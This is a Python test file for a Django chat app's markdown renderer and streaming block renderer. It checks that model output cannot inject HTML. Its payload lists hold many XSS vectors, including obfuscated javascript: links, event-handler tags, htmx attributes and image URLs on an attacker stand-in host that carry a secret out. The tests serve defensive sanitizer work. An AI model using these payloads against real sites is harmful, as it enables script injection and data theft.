"""Model output is hostile input: what render_markdown lets through, and how a stream settles."""

from __future__ import annotations

import html
import random
import re

import pytest
from django.test.html import Element, parse_html
from hypothesis import given
from hypothesis import strategies as st

import chat.rendering
from chat.rendering import StreamingMarkdown, plain_html, render_markdown
from tests.html import attr, tags

# -- reading the output ----------------------------------------------------------------------

ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "div",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
# Where a browser finds a URL's scheme: letters first, then letters, digits, "+", "-", ".".
URL_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")


def hrefs(markup: str) -> list[str]:
    return [value for el in tags(markup) for name, value in el.attributes if name == "href"]


def scheme_a_browser_sees(href: str) -> str | None:
    # The URL parser drops leading and trailing C0 controls and spaces, and every tab and newline.
    url = re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", html.unescape(href))
    url = re.sub(r"[\t\n\r]", "", url)
    found = URL_SCHEME.match(url)
    return found.group(1).lower() if found else None


def visible_text(markup: str) -> str:
    """Text a reader sees, without tags or whitespace (block boundaries may differ in spacing)."""
    strings: list[str] = []

    def collect(node: Element | str) -> None:
        if isinstance(node, str):
            strings.append(node)
        else:
            for child in node.children:
                collect(child)

    collect(parse_html(markup))
    return re.sub(r"\s+", "", "".join(strings))


def code_text(markup: str) -> str:
    """The text of the code blocks alone, without whitespace."""
    return "".join(visible_text(str(el)) for el in tags(markup) if el.name == "pre")


# -- raw HTML ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "<script>alert(1)</script>",
        '<iframe src="https://evil.example"></iframe>',
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<style>body { display: none }</style>",
    ],
    ids=["script", "iframe", "img-onerror", "svg-onload", "style"],
)
def test_raw_html_is_shown_as_text_not_rendered(raw: str) -> None:
    rendered = render_markdown(raw)

    assert [el.name for el in tags(rendered)] == ["p"]
    assert visible_text(rendered) == re.sub(r"\s+", "", raw)


# -- links ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript&#58;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](java&#09;script:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x]( javascript:alert(1))",
        "[x](\x01javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[x](vbscript:msgbox(1))",
        "[x](VBScript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](data:image/png;base64,iVBORw0KGgo=)",
        "[x](DATA:text/html,<script>alert(1)</script>)",
    ],
)
def test_a_link_to_a_dangerous_scheme_is_not_a_link(link: str) -> None:
    rendered = render_markdown(link)

    assert all(scheme_a_browser_sees(href) in SAFE_SCHEMES | {None} for href in hrefs(rendered))


@pytest.mark.parametrize(
    ("link", "href"),
    [
        ("[docs](https://example.com/a?b=1)", "https://example.com/a?b=1"),
        ("[plain](http://example.com)", "http://example.com"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ("[mail](mailto:team@example.com)", "mailto:team@example.com"),
    ],
)
def test_http_https_and_mailto_links_survive(link: str, href: str) -> None:
    assert hrefs(render_markdown(link)) == [href]


def test_every_link_opens_in_a_new_tab_without_referrer_or_opener() -> None:
    (anchor,) = [el for el in tags(render_markdown("[docs](https://example.com)")) if el.name == "a"]

    assert dict(anchor.attributes)["target"] == "_blank"
    assert dict(anchor.attributes)["rel"] == "noopener noreferrer nofollow"


# -- images -----------------------------------------------------------------------------------


def test_a_markdown_image_becomes_a_link_that_says_it_is_an_image() -> None:
    rendered = render_markdown("![a chart](https://example.com/chart.png)")

    assert hrefs(rendered) == ["https://example.com/chart.png"]
    assert visible_text(rendered) == "Image:achart"


IMAGE_PAYLOADS = [
    "![x](https://example.com/a.png)",
    "![x](https://evil.example/collect?secret=123)",
    '![x](https://example.com/a.png "title")',
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![](https://example.com/no-alt.png)",
    "![x][ref]\n\n[ref]: https://example.com/ref.png",
    "[![x](https://example.com/inner.png)](https://example.com/outer)",
    "<img src=https://example.com/a.png>",
    "<IMG SRC=x onerror=alert(1)>",
    "<picture><source srcset=x><img src=x></picture>",
    "| a |\n|---|\n| ![x](https://example.com/cell.png) |",
    "- ![x](https://example.com/item.png)",
]


@pytest.mark.parametrize("payload", IMAGE_PAYLOADS)
def test_no_image_payload_renders_an_img_tag(payload: str) -> None:
    assert "<img" not in render_markdown(payload).lower()


# -- a corpus of XSS and htmx payloads --------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    "<a hx-get=/x hx-trigger=load>x</a>",
    '<div data-hx-post="/c/1/send/" data-hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)">x</div>',
    '<form hx-post="/accounts/password/"><input name=new_password1></form>',
    '<div hx-ext="ws" ws-connect="/ws/runs/1/">x</div>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!--<img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://example.com "a" onmouseover="alert(1)")',
    '[x](https://example.com"onmouseover="alert(1))',
    '![x](https://example.com/a.png"onerror="alert(1))',
    '![x"onerror="alert(1)](https://example.com/a.png)',
    "```html\n<script>alert(1)</script>\n```",
    '```js" onload="alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    '<https://example.com/" onmouseover="alert(1)>',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "| <script>alert(1)</script> |\n|---|\n| <a hx-get=/x>x</a> |",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_renders_a_script_or_img_tag(payload: str) -> None:
    rendered = render_markdown(payload).lower()

    assert "<script" not in rendered
    assert "<img" not in rendered


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_renders_a_tag_outside_the_allowlist(payload: str) -> None:
    assert {el.name for el in tags(render_markdown(payload))} <= ALLOWED_TAGS


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_leaves_an_event_handler_in_a_tag(payload: str) -> None:
    rendered = render_markdown(payload)

    # Escaped text may say "onerror=": only what sits inside a real tag counts.
    assert not re.search(r"<[^>]*\son\w+\s*=", rendered, re.IGNORECASE)
    assert not [name for el in tags(rendered) for name, _ in el.attributes if name.startswith("on")]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_leaves_an_htmx_attribute(payload: str) -> None:
    rendered = render_markdown(payload)

    assert not re.search(r"<[^>]*\s(data-)?hx-", rendered, re.IGNORECASE)
    assert not [
        name for el in tags(rendered) for name, _ in el.attributes if re.match(r"(data-)?hx-|ws-", name)
    ]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_leaves_a_style_id_or_data_attribute(payload: str) -> None:
    names = {name for el in tags(render_markdown(payload)) for name, _ in el.attributes}

    assert not names & {"style", "id", "srcdoc", "src", "srcset", "formaction", "action"}
    assert not [name for name in names if name.startswith("data-")]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_puts_a_class_anywhere_but_on_pygments_span_code_or_div(payload: str) -> None:
    classed = {el.name for el in tags(render_markdown(payload)) if dict(el.attributes).get("class")}

    assert classed <= {"span", "code", "div"}


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_leaves_a_javascript_href(payload: str) -> None:
    for href in hrefs(render_markdown(payload)):
        assert "javascript:" not in href.lower()
        assert scheme_a_browser_sees(href) in SAFE_SCHEMES | {None}


# -- code, tables, strikethrough --------------------------------------------------------------


def test_fenced_code_in_a_known_language_is_highlighted_by_pygments() -> None:
    rendered = render_markdown("```python\ndef answer():\n    return 42\n```")

    spans = [el for el in tags(rendered) if el.name == "span"]
    assert {"k", "nf", "mi"} <= {dict(span.attributes).get("class") for span in spans}
    assert visible_text(rendered) == "defanswer():return42"


def test_fenced_code_in_an_unknown_language_is_escaped_not_highlighted() -> None:
    rendered = render_markdown("```nosuchlanguage\n<b>bold?</b> & more\n```")

    assert [el.name for el in tags(rendered)] == ["pre", "code"]
    assert "&lt;b&gt;bold?&lt;/b&gt; &amp; more" in rendered


def test_a_table_renders_as_a_table() -> None:
    rendered = render_markdown("| model | score |\n|---|---:|\n| solo | 60.0 |\n| fusion | 69.0 |")

    names = [el.name for el in tags(rendered)]
    assert names.count("table") == 1
    assert names.count("tr") == 3
    assert '<th dir="auto">model</th>' in rendered
    assert '<td dir="auto">solo</td>' in rendered


def test_a_right_aligned_table_column_keeps_its_alignment() -> None:
    rendered = render_markdown("| model | score |\n|---|---:|\n| fusion | 69.0 |")

    assert '<td align="right" dir="auto">69.0</td>' in rendered


def test_strikethrough_renders() -> None:
    assert "<s>wrong</s>" in render_markdown("That was ~~wrong~~ right.")


# -- StreamingMarkdown ------------------------------------------------------------------------

word = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789*&<>.,!?", min_size=1, max_size=8)
text_line = st.lists(word, min_size=1, max_size=8).map(" ".join)
paragraph = st.lists(text_line, min_size=1, max_size=3).map("\n".join)
bullet_list = st.lists(text_line, min_size=1, max_size=4).map(
    lambda items: "\n".join(f"- {i}" for i in items)
)
# Blank lines inside the fence, and lines that look like fences but, with an info string, cannot close one.
code_line = st.one_of(
    text_line,
    text_line.map(lambda line: "    " + line),
    st.sampled_from(["", "   ", "```js", "~~~ text"]),
)
fenced_code = st.tuples(
    st.sampled_from(["```", "~~~", "````"]),
    st.sampled_from(["", "python", "nosuchlanguage"]),
    st.lists(code_line, min_size=1, max_size=6),
).map(lambda parts: f"{parts[0]}{parts[1]}\n" + "\n".join(parts[2]) + f"\n{parts[0]}")
markdown_document = st.lists(
    st.tuples(st.one_of(paragraph, bullet_list, fenced_code), st.sampled_from(["\n\n", "\n\n\n", "\n \n"])),
    min_size=1,
    max_size=6,
).map(lambda blocks: "".join(block + gap for block, gap in blocks).rstrip("\n "))


@st.composite
def chunked_document(draw: st.DrawFn) -> tuple[str, list[str]]:
    text = draw(markdown_document)
    cuts = sorted(set(draw(st.lists(st.integers(0, len(text)), max_size=40))))
    bounds = [0, *cuts, len(text)]
    return text, [text[start:end] for start, end in zip(bounds, bounds[1:], strict=False)]


@given(chunked_document())
def test_settled_blocks_never_change_once_emitted(document: tuple[str, list[str]]) -> None:
    _, chunks = document
    stream = StreamingMarkdown()
    emitted: list[str] = []
    for chunk in chunks:
        settled, _ = stream.feed(chunk)
        emitted += settled
        assert stream.blocks == emitted


@given(chunked_document())
def test_settled_blocks_do_not_depend_on_how_the_text_was_cut(document: tuple[str, list[str]]) -> None:
    text, chunks = document
    at_once = StreamingMarkdown()
    at_once.feed(text)
    streamed = StreamingMarkdown()
    for chunk in chunks:
        streamed.feed(chunk)

    assert streamed.blocks == at_once.blocks


@given(chunked_document())
def test_blocks_and_tail_show_the_same_text_as_rendering_the_whole(document: tuple[str, list[str]]) -> None:
    # Exact HTML may differ where a loose list spans blocks; what a reader sees may not.
    text, chunks = document
    stream = StreamingMarkdown()
    tail = ""
    for chunk in chunks:
        _, tail = stream.feed(chunk)

    assert visible_text("".join(stream.blocks) + tail) == visible_text(render_markdown(text))


@given(chunked_document())
def test_blocks_and_tail_hold_the_same_code_as_rendering_the_whole(document: tuple[str, list[str]]) -> None:
    text, chunks = document
    stream = StreamingMarkdown()
    tail = ""
    for chunk in chunks:
        _, tail = stream.feed(chunk)

    assert code_text("".join(stream.blocks) + tail) == code_text(render_markdown(text))


def test_a_blank_line_inside_a_fenced_code_block_does_not_cut_the_block() -> None:
    stream = StreamingMarkdown()
    settled, _ = stream.feed("```python\nfirst = 1\n\n\nsecond = 2\n")

    assert settled == []


def test_a_fenced_code_block_settles_whole_once_closed_and_followed_by_a_blank_line() -> None:
    code = "```python\nfirst = 1\n\nsecond = 2\n```\n\n"
    stream = StreamingMarkdown()
    settled, tail = stream.feed(code + "after")

    assert settled == [render_markdown(code)]
    assert tail == render_markdown("after")


def test_a_fence_line_with_an_info_string_does_not_close_an_open_fence() -> None:
    # Only a bare run of fence characters closes a fence; "```python" inside one is code.
    text = "```\nshown as code:\n```python\n\nstill code\n```\n\n"
    stream = StreamingMarkdown()
    settled, _ = stream.feed(text)

    assert settled == [render_markdown(text)]


def test_a_list_split_by_a_blank_line_settles_as_two_lists_and_the_final_render_joins_them() -> None:
    # The documented difference: streamed blocks are rendered alone, the final text as a whole.
    text = "- one\n\n- two\n"
    stream = StreamingMarkdown()
    settled, tail = stream.feed(text)

    assert (settled[0] + tail).count("<ul>") == 2
    assert render_markdown(text).count("<ul>") == 1


# -- a live stream's tail: shown as written until its block settles -------------------------


def test_a_live_tail_is_shown_as_written_not_rendered() -> None:
    stream = StreamingMarkdown(plain_tail=True)
    settled, tail = stream.feed("## Key points\n- **first** <b>x</b>")

    assert settled == []
    assert tail == '<p class="unsettled" dir="auto">## Key points\n- **first** &lt;b&gt;x&lt;/b&gt;</p>'


def test_a_live_tail_neutralizes_bidirectional_controls() -> None:
    _, tail = StreamingMarkdown(plain_tail=True).feed("evil\u202egnp.exe")

    assert "\u202e" not in tail and "\ufffd" in tail


def test_a_live_streams_block_is_rendered_when_it_settles() -> None:
    stream = StreamingMarkdown(plain_tail=True)
    stream.feed("## Key points\n")
    settled, tail = stream.feed("\nThe **next** one")

    assert settled == [render_markdown("## Key points\n\n")]
    assert tail == '<p class="unsettled" dir="auto">The **next** one</p>'


def test_a_live_streams_blocks_are_those_of_a_rendered_stream() -> None:
    text = "# Title\n\nSome *prose*.\n\n```python\nx = 1\n```\n\n- a\n- b\n\nend"
    live, rendered = StreamingMarkdown(plain_tail=True), StreamingMarkdown()
    for start in range(0, len(text), 3):
        live.feed(text[start : start + 3])
        rendered.feed(text[start : start + 3])

    assert live.blocks == rendered.blocks
    assert rendered.tail_html() == render_markdown("end")


@given(chunked_document())
def test_a_feed_that_may_not_settle_a_block_settles_none(document: tuple[str, list[str]]) -> None:
    # What lets a live frame stay on the event loop: it renders markdown only when this says so.
    _, chunks = document
    stream = StreamingMarkdown(block_limit=40, plain_tail=True)
    for chunk in chunks:
        may_settle = stream.may_settle(chunk)
        settled, _ = stream.feed(chunk)
        assert may_settle or settled == []


# -- the cost of a stream ---------------------------------------------------------------------

# A token as the simulator streams it: a word piece with its leading whitespace.
TOKEN = re.compile(r"\s*\S{1,6}|\s+")
VOCABULARY = ["the", "panel", "model", "answer", "judge", "fused", "consensus", "because", "however", "which"]


def paragraphs_of_tokens(tokens: int) -> list[str]:
    rng = random.Random(tokens)
    paragraphs: list[str] = []
    while sum(len(TOKEN.findall(p + "\n\n")) for p in paragraphs) < tokens:
        paragraphs.append(" ".join(rng.choice(VOCABULARY) for _ in range(60)) + ".")
    return paragraphs


def characters_rendered_streaming(text: str, monkeypatch: pytest.MonkeyPatch) -> int:
    rendered = 0
    real = chat.rendering.render_markdown

    def counting(markdown: str) -> str:
        nonlocal rendered
        rendered += len(markdown)
        return real(markdown)

    with monkeypatch.context() as patch:
        patch.setattr(chat.rendering, "render_markdown", counting)
        stream = StreamingMarkdown()
        for token in TOKEN.findall(text):
            stream.feed(token)
    return rendered


def test_streaming_renders_only_the_unsettled_paragraph_again_on_each_token(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    paragraphs = paragraphs_of_tokens(5_000)
    text = "\n\n".join(paragraphs)
    feeds = len(TOKEN.findall(text))
    longest = max(len(p) for p in paragraphs) + 2

    # Each settled block once, plus at most one paragraph per token; re-rendering everything
    # on each token would cost about the square of the length, far above this.
    assert characters_rendered_streaming(text, monkeypatch) <= len(text) + feeds * longest


def test_the_cost_of_streaming_grows_linearly_with_the_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    short = "\n\n".join(paragraphs_of_tokens(500))
    long = "\n\n".join(paragraphs_of_tokens(5_000))

    per_character_short = characters_rendered_streaming(short, monkeypatch) / len(short)
    per_character_long = characters_rendered_streaming(long, monkeypatch) / len(long)

    assert per_character_long < 1.5 * per_character_short


def test_every_block_takes_its_direction_from_its_own_text() -> None:
    rendered = render_markdown("# عنوان\n\nשלום עולם\n\n- one\n\n> quoted")

    blocks = [el for el in tags(rendered) if el.name in {"h1", "p", "li", "blockquote"}]
    assert [attr(el, "dir") for el in blocks] == ["auto"] * len(blocks)
    assert len(blocks) >= 5


def test_plain_text_kept_past_the_budget_takes_its_direction_from_its_text() -> None:
    assert plain_html("שלום").startswith('<p dir="auto">')
